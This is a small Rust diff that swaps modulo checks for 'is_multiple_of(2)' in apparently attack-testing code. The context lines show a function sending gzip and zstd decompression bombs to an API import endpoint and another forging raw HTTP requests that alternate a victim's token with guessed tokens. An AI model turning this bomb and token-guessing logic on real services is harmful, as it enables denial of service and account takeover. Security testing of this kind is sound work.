@@ -125,7 +125,7 @@ fn pause(attack: &Attack, most: Duration) {
 
 /// Sends one bomb after the other.
 pub(super) fn bombs(attack: &Attack, number: usize, gzip: &[u8]) {
-    let (coding, body) = if number % 2 == 0 { ("gzip", gzip.to_vec()) } else { ("zstd", zstd_bomb()) };
+    let (coding, body) = if number.is_multiple_of(2) { ("gzip", gzip.to_vec()) } else { ("zstd", zstd_bomb()) };
     let path = format!("/v2/programs/{}/participants?new=add&existing=ignore&mode=row", attack.tenant.program);
     // What was refused is not remembered: the same again is a bomb again.
     let request = Signed::stream(&attack.tenant, &path, body).coded(coding);
@@ -218,7 +218,7 @@ pub(super) fn floods() -> u64 {
 fn guessed(attack: &Attack, guess: &mut u64) -> String {
     *guess += 1;
     let now = timestamp(SystemTime::now());
-    let token = if *guess % 2 == 0 { attack.victim.clone() } else { format!("{:032x}", *guess) };
+    let token = if guess.is_multiple_of(2) { attack.victim.clone() } else { format!("{:032x}", *guess) };
     format!(
         "POST /v2/programs/x/participants HTTP/1.1\r\nHost: x\r\nAuthorization: SignalVine {token}:{:043}\r\nSignalVine-Date: {now}\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{{}}",
         *guess
